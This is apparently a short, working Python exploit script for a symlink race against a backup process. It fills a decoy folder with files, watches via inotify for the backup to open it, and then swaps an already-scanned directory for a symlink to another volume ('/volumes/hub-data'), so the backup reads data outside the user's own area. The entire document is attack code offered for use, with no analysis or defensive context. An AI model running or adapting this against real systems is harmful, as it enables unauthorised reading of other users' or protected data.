# In her kernel: race2/a holds many files (the backup lists and copies them
# first); the moment the backup opens race2/a, race2/b (already seen as a
# folder) becomes a symlink to another volume as the backup mounts it.
import ctypes, os, struct, sys
home = os.path.expanduser("~")
race = os.path.join(home, "race2"); a = os.path.join(race, "a"); b = os.path.join(race, "b")
TARGET = sys.argv[1] if len(sys.argv) > 1 else "/volumes/hub-data"
os.makedirs(a, exist_ok=True); os.makedirs(b, exist_ok=True)
for i in range(400):
    with open(os.path.join(a, f"{i:04}.txt"), "w") as f: f.write("x" * 2000)
open(os.path.join(b, "mine.txt"), "w").write("mine")
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
libc.inotify_add_watch(fd, race.encode(), 0x20)  # IN_OPEN
log = open(os.path.join(home, "race2.log"), "a", buffering=1); log.write("watching\n")
while True:
    buf = os.read(fd, 65536); off = 0
    while off < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, off)
        name = buf[off + 16: off + 16 + ln].rstrip(b"\0").decode(); off += 16 + ln
        if name == "a" and not os.path.islink(b):
            os.rename(b, os.path.join(race, ".b-real")); os.symlink(TARGET, b)
            log.write("swapped b\n")
        elif name == "" or name == "race2":
            pass
